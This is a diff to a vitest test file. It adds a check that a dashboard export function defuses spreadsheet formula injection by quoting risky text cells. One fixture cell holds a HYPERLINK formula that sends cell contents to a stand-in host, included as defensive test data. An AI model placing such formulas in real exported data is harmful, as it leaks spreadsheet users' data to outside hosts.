@@ -9,7 +9,8 @@ import os from 'node:os';
 import path from 'node:path';
 import { promisify } from 'node:util';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
-import { DASHBOARDS_DIR } from '../../functions/core/dashboards.js';
+import { DASHBOARDS_DIR, neutralisedSelect } from '../../functions/core/dashboards.js';
+import { literal, withDuckDb } from '../../functions/core/engine/duckdb.js';
 // @ts-expect-error plain JS module of the dashboards project (no types)
 import { viDateCode, viNumberText } from '../../dashboards/components/vi-format.js';
 
@@ -90,5 +91,35 @@ describe('viDateCode given a date format code', () => {
   test('should replace the ISO default with dd/mm/yyyy and keep others', () => {
     expect(viDateCode('YYYY-MM-DD')).toBe('dd/mm/yyyy');
     expect(viDateCode('mm/yyyy')).toBe('mm/yyyy');
+  });
+});
+
+describe('neutralisedSelect given a table with text that a spreadsheet would run as a formula', () => {
+  let tmp: string;
+  beforeAll(async () => {
+    tmp = await mkdtemp(path.join(os.tmpdir(), 'dash-formula-'));
+  });
+  afterAll(async () => {
+    await rm(tmp, { recursive: true, force: true });
+  });
+
+  test('should prefix a quote to text cells starting with = + - @ tab or CR and leave everything else as it was', async () => {
+    const rows = await withDuckDb(async (db) => {
+      await db.run(`copy (select * from (values
+          (1, '=HYPERLINK("http://x.example/?"&A1,"x")', -2.5::DOUBLE, 'H99.01'),
+          (2, '+84 912', 0.0, '-1'),
+          (3, '@SUM(A1)', 1.0, NULL),
+          (4, 'Sở Tư pháp', 2.0, chr(9) || 'tab'),
+          (5, NULL, NULL, 'a=b')
+        ) t(id, name, score, code)) to ${literal(path.join(tmp, 't.parquet'))} (format parquet)`);
+      // Relative to the directory the generated source query runs in, as Evidence runs it.
+      const select = await neutralisedSelect(db, `read_parquet('t.parquet')`, tmp);
+      expect(select).not.toContain(tmp);
+      return db.all(`${select} order by id`);
+    });
+    expect(rows.map((r) => Object.keys(r))).toEqual(Array(5).fill(['id', 'name', 'score', 'code']));
+    expect(rows.map((r) => r.name)).toEqual([`'=HYPERLINK("http://x.example/?"&A1,"x")`, "'+84 912", "'@SUM(A1)", 'Sở Tư pháp', null]);
+    expect(rows.map((r) => r.code)).toEqual(['H99.01', "'-1", null, "'\ttab", 'a=b']);
+    expect(rows.map((r) => r.score)).toEqual([-2.5, 0, 1, 2, null]);
   });
 });
